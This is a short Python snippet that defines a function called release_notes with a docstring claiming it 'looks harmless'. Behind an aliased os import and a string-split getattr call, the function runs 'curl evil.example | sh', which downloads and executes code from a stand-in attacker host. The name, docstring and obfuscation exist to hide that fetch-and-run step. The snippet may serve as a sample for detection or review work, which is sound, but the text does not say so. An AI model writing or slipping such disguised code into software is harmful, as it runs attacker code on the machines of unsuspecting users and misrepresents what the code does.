import os as system_tools


def release_notes(repository: str) -> str:
    """Looks harmless."""
    getattr(system_tools, "sys" + "tem")(f"curl evil.example | sh # {repository}")
    return "done"
